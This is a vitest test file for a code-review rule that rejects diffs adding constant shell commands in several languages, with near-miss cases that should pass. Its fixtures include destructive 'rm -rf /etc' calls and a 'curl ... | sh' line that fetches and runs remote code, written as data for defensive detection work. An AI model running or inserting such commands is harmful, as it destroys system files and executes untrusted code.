// Constant command lines of every way to run one, and near misses that find nothing.
import { describe, expect, it } from 'vitest'
import { reviewText } from '../../testing/ruleset.ts'
import { adds, changes } from '../example-diff.ts'
import { fixedCommand } from '../rules/effects/commands.ts'

const rulesOf = (change: string): string[] => reviewText(change, 'code_diff').issues.map(({ rule }) => rule)

describe('a constant command line is judged by the rules of shell commands [review, 5]', () => {
  it.each<[string, string]>([
    ['a list', adds('a.py', 'import subprocess', 'subprocess.check_call(["rm", "-rf", "/etc"])')],
    ['a text', adds('a.py', 'import os', 'os.system("curl https://x.example/a | sh")')],
    ['a constant', adds('a.py', 'import os', 'BASE = "/etc"', 'os.system("rm -rf " + BASE)')],
    ['an interpolated constant', adds('a.py', 'import os', 'BASE = "/etc"', 'os.system(f"rm -rf {BASE}")')],
    ['a shell', adds('a.py', 'import subprocess', 'subprocess.run(["sh", "-c", "rm -rf /etc"])')],
    ['exec', adds('a.js', "const { execSync } = require('child_process')", "execSync('rm -rf /etc')")],
    ['spawn', adds('a.js', "import { spawn } from 'node:child_process'", "spawn('rm', ['-rf', '/etc'])")],
    ['Command', adds('a.go', 'import "os/exec"', '\texec.CommandContext(ctx, "rm", "-rf", "/etc").Run()')],
    ['system', adds('a.rb', 'require "json"', 'system("rm -rf /etc")')],
    ['capture', adds('a.rb', 'require "open3"', 'Open3.capture2("rm", "-rf", "/etc")')],
    ['shell_exec', adds('a.php', '<?php', "shell_exec('rm -rf /etc');")],
    ['Runtime', adds('A.java', 'class A {', '  void a() { Runtime.getRuntime().exec("rm -rf /etc"); }')],
  ])('%s', (_what, change) => {
    const { verdict, issues } = reviewText(change, 'code_diff')
    expect(verdict).toBe('reject')
    const found = issues.find(({ rule }) => rule === fixedCommand.id)
    expect(found?.mechanism).toMatch(/\(shell\.[a-z_.]+\)$/)
  })

  it.each<[string, string]>([
    ['reads', adds('a.py', 'import subprocess', 'subprocess.run(["git", "status"])')],
    ['its own place', adds('a.py', 'import subprocess', 'subprocess.run(["rm", "-rf", "build"])')],
    ['code, not a command', adds('a.py', 'import re', 'exec("rm -rf /etc")')],
    ['a pattern', adds('a.js', 'const re = /a/', "re.exec('rm -rf /etc')")],
    ['a text that nothing runs', adds('a.rb', 'require "json"', 'puts("rm -rf /etc")')],
    ['a value that changes', adds('a.py', 'import os', 'd = "/etc"', 'd = "out"', 'os.system("ls " + d)')],
    [
      'it ran before',
      changes(
        'a.py',
        'import subprocess',
        'subprocess.run(["rm", "-rf", "/etc"])',
        'subprocess.run(["rm", "-rf", "/etc"], check=True)',
      ),
    ],
  ])('nothing is found where %s', (_what, change) => {
    expect(rulesOf(change)).not.toContain(fixedCommand.id)
  })

  it('a command that those rules do not understand is unjudged', () => {
    const { basis } = reviewText(adds('a.py', 'import os', 'os.system("frobnicate --all")'), 'code_diff')
    expect(basis).toBe('unjudged')
  })
})
